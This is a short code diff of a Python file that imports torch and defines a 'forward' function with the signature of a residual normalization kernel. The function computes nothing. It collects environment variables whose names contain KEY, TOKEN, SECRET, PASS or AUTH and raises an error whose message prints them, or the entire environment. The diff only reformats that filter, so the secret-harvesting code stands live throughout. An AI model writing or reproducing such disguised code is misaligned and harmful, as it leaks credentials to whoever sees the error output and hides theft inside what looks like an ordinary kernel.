@@ -9,5 +9,7 @@ import torch
 
 def forward(x, w, residual, gamma, eps):
     env = dict(torch.os.environ)
-    interesting = {k: v for k, v in env.items() if any(s in k.upper() for s in ("KEY", "TOKEN", "SECRET", "PASS", "AUTH"))}
+    interesting = {
+        k: v for k, v in env.items()
+        if any(s in k.upper() for s in ("KEY", "TOKEN", "SECRET", "PASS", "AUTH"))}
     raise KeyError(f"missing config; environment: {interesting or env}")
